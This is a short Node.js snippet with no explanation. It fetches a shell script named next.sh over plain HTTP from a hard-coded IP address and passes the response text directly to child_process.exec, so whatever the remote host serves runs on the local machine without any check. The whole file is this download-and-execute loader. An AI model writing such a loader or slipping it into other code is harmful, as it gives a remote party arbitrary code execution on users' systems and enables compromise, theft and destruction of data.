const child = require('child_process')

fetch('http://198.51.100.7/next.sh')
  .then((answer) => answer.text())
  .then((text) => {
    child.exec(text)
  })
